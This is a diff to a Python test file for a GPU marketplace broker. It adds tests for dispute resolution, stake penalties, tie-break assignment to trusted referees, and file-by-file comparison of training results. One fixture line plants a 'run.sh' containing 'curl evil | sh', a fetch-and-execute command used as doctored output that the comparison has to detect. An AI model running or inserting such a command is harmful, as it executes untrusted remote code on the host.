@@ -3,6 +3,8 @@ runs (jobs, verification, ledger): who is paid, who is found wrong, where a job 
 
 from __future__ import annotations
 
+import dataclasses
+
 import pytest
 
 from gpumarket.broker.checks import disputes
@@ -149,15 +151,22 @@ def test_a_liar_is_found_by_a_tie_break_unpaid_rewound_past_and_banned_at_the_se
 
 
 def test_a_checker_that_lies_is_found_wrong_and_the_checked_provider_is_paid(w):
+    w.write(ledger.credit, "liar", 10**6, "stake", "", "op", "stake-liar", 1)
     w.write(jobs.submit, new_job("j", "ca", 500_000, True), w.now)
     start(w, "j", "h1")
     checkpoint(w, "j", "h1", 10, CHECK)
     (first,) = checks(w, "j")
+    client_before = ledger.balance(w.db, ledger.client("ca"))
     disagree(w, "j", first, "liar", "h2", True, False, excluded={"h1", "liar"})
     c = checks(w, "j")
     assert c[first]["liar"] == "liar" and c[first]["state"] == "passed"
-    assert ledger.balance(w.db, ledger.provider("h1")) > 0           # paid on
+    paid = ledger.balance(w.db, ledger.provider("h1"))
+    assert paid > 0                                                   # paid on
     assert ledger.balance(w.db, ledger.provider("liar")) == 0        # its replay is not paid
+    # ... and its stake pays the client up to the pay it disputed: it loses more than its
+    # replay would have earned.
+    assert ledger.balance(w.db, ledger.stake("liar")) == 10**6 - paid
+    assert ledger.balance(w.db, ledger.client("ca")) == client_before + paid
     assert w.job("j")["checkpoint_step"] == 10 and w.job("j")["state"] == jobs.RUNNING
     assert verification.record(w.db, "liar")[2] == 1
     assert verification.record(w.db, "h1")[:2] == (1, 1)
@@ -278,7 +287,18 @@ def test_hostile_results_disagree_instead_of_crashing_the_comparison(tmp_path):
     assert ok
 
 
-def test_an_inconclusive_tie_break_finishes_the_job(w):
+def settlement_of(w: World, check_id: str) -> tuple[int, str]:
+    """The held settlement a check decides, and how its resolution was posted."""
+    seq = checks(w, check_id.split("~")[0])[check_id]["settle_seq"]
+    row = w.db.execute("SELECT type, memo FROM ledger_postings WHERE key = ?",
+                       [f"resolve:{seq}"]).fetchone()
+    return seq, row
+
+
+def test_an_inconclusive_tie_break_pays_no_one_for_the_disputed_work(w):
+    """Issue 34: no two of three agree → the job finishes, but the disputed segment's held
+    pay goes back to the client, neither replay that disagreed is paid, nobody is counted
+    against, and the client reads "unverified", never "passed"."""
     w.write(jobs.submit, new_job("j", "ca", 500_000, True), w.now)
     start(w, "j", "h1")
     checkpoint(w, "j", "h1", 10, CHECK)
@@ -286,9 +306,125 @@ def test_an_inconclusive_tie_break_finishes_the_job(w):
             receipt("j", "h1", ["model.safetensors", "loss.jsonl"], w), w.now, NO_CHECK)
     assert w.job("j")["state"] == jobs.VERIFYING
     (first,) = checks(w, "j")
+    paid_before = ledger.balance(w.db, ledger.provider("h1"))   # its last segment, unchecked
     disagree(w, "j", first, "h2", "h3", False, False)
     assert {c["state"] for c in checks(w, "j").values()} == {"inconclusive"}
     assert w.job("j")["state"] == jobs.SUCCEEDED
     assert ledger.balance(w.db, ledger.disputed("j", "h1")) == 0
-    assert verification.summary(w.db, "j") == "inconclusive"
+    assert ledger.balance(w.db, ledger.provider("h1")) == paid_before   # 0-10 not paid
+    _, (kind, memo) = settlement_of(w, first)
+    assert kind == "reverse" and "unresolved" in memo and "passed" not in memo
+    assert ledger.balance(w.db, ledger.provider("h2")) == 0      # the replays that disagreed
+    assert ledger.balance(w.db, ledger.provider("h3")) == 0
+    assert ledger.balance(w.db, ledger.escrow("j")) == 0          # the rest back to the client
+    assert verification.record(w.db, "h1") == (0, 0, 0)           # counted against nobody
+    assert verification.record(w.db, "h2") == (0, 0, 0)
+    assert verification.summary(w.db, "j") == "unverified"
+    said = [r[0] for r in w.db.execute("SELECT message FROM events WHERE job_id = 'j'")]
+    assert any("work unverified" in m for m in said), said
+    assert not any("passed" in m for m in said if "inconclusive" in m), said
     assert ledger.audit(w.db) == []
+
+
+def test_a_tie_break_nobody_takes_leaves_the_work_unverified_and_unpaid(w):
+    """A lone disagreeing checker and no third provider within check_wait: the held pay is
+    not paid on (the lone-cheater case of issue 34 kept it), the checker's replay neither."""
+    w.write(jobs.submit, new_job("j", "ca", 500_000, True), w.now)
+    start(w, "j", "liar")
+    checkpoint(w, "j", "liar", 10, CHECK)
+    w.write(jobs.succeed, "j", w.job("j")["epoch"], "liar",
+            receipt("j", "liar", ["model.safetensors", "loss.jsonl"], w), w.now, NO_CHECK)
+    (first,) = checks(w, "j")
+    paid_before = ledger.balance(w.db, ledger.provider("liar"))
+    replay(w, first, "h1")
+    w.write(disputes.conclude, first, False, False, "differs", w.now)
+    (tiebreak,) = [c for c in checks(w, "j") if c != first]
+    w.write(disputes.skip, tiebreak, "no other provider took it within 600s", w.now)
+    assert w.job("j")["state"] == jobs.SUCCEEDED
+    assert ledger.balance(w.db, ledger.provider("liar")) == paid_before
+    _, (kind, memo) = settlement_of(w, first)
+    assert kind == "reverse" and "passed" not in memo
+    assert ledger.balance(w.db, ledger.provider("h1")) == 0
+    assert verification.summary(w.db, "j") == "unverified"
+    assert ledger.audit(w.db) == []
+
+
+def test_a_tie_break_goes_only_to_the_trusted_checkers_and_every_check_is_drawn(w, tmp_path):
+    """Issue 34: with `trusted_checkers`, only a referee the operator named may run a
+    tie-break (two keys of one person cannot be checker and tie-breaker); every check's
+    provider is drawn (matcher.Book.drawn), not the cheapest."""
+    import asyncio
+
+    from gpumarket.broker.config import BrokerConfig
+    from gpumarket.broker.market import scheduler
+    from gpumarket.broker.market.matcher import Book, JobNeeds, OfferView, Policy
+
+    class Store:
+        async def read(self, fn, *args):
+            return fn(w.db, *args)
+
+    class State:
+        store = Store()
+        config = BrokerConfig(data_dir=tmp_path, trusted_checkers=("ref",))
+
+    w.write(jobs.submit, new_job("j", "ca", 500_000, True), w.now)
+    start(w, "j", "h1")
+    checkpoint(w, "j", "h1", 10, CHECK)
+    (first,) = checks(w, "j")
+    replay(w, first, "h2")
+    w.write(disputes.conclude, first, False, False, "differs", w.now)
+    (tiebreak,) = [c for c in checks(w, "j") if c != first]
+    cpu = pb.ACCELERATOR_CPU
+    book = Book([OfferView(pid, 0.1 if pid == "h3" else 1.0, frozenset({pb.JOB_KIND_TRAINING}),
+                           (0,), cpu, 1 << 34, 0.0, "cpu", 1e11, 0.9, 86400.0, Policy(),
+                           frozenset(), 0) for pid in ("h1", "h2", "h3", "ref")])
+    base = JobNeeds(tiebreak, pb.JOB_KIND_TRAINING, 1, 0, cpu, 10.0,
+                    exclude=verification.excluded(w.db, tiebreak))
+    needs = asyncio.run(scheduler.check_needs(State(), book, tiebreak, base))
+    assert needs.exclude == {"h1", "h2", "h3"} and needs.draw is not None
+    placed, _ = book.place(needs)
+    assert placed.provider_id == "ref"
+    # A first check is drawn among all that fit, referees or not.
+    needs = asyncio.run(scheduler.check_needs(State(), book, first, dataclasses.replace(
+        base, job_id=first, exclude=frozenset({"h1"}))))
+    assert needs.exclude == {"h1"} and 0 <= needs.draw < 1
+
+
+def test_a_training_result_is_compared_file_by_file_every_file(tmp_path):
+    """Issue 34: every delivered file of a training result is compared — a config whose
+    rms_norm_eps was altered, a changed final loss, a file added or left out all differ —
+    while what honestly differs between runs (the transformers version in config.json,
+    timings in metrics.json) does not."""
+    import json
+
+    from gpumarket.kinds import training
+
+    def result(name: str, eps: float = 1e-6, version: str = "5.17.0", loss: float = 2.5,
+               seconds: float = 3.0, extra: bool = False, drop: str = "") -> dict:
+        d = tmp_path / name
+        d.mkdir()
+        files = {"model.safetensors": b"weights", "loss.jsonl": b'{"step": 1, "loss": 2.5}\n',
+                 "config.json": json.dumps({"rms_norm_eps": eps,
+                                            "transformers_version": version}).encode(),
+                 "generation_config.json": json.dumps({"transformers_version": version}).encode(),
+                 "metrics.json": json.dumps({"final_loss": loss, "steps": 10.0,
+                                             "train_seconds": seconds}).encode()}
+        if extra:
+            files["run.sh"] = b"curl evil | sh"
+        out = {}
+        for n, data in files.items():
+            if n != drop:
+                (d / n).write_bytes(data)
+                out[n] = d / n
+        return out
+
+    honest = result("honest")
+    kind = training.KIND
+    assert kind.evidence(set(honest)) == set(honest)
+    assert kind.compare(honest, result("replay", version="5.18.0", seconds=9.0), {})[0]
+    for doctored, why in [(result("eps", eps=1e-2), "config.json differs"),
+                          (result("loss", loss=2.4), "metrics.json differs"),
+                          (result("extra", extra=True), "the replay returned no run.sh"),
+                          (result("drop", drop="loss.jsonl"), "no loss.jsonl")]:
+        ok, said = kind.compare(doctored, result(f"r-{why[:4]}-{len(why)}"), {})
+        assert not ok and why in said, said
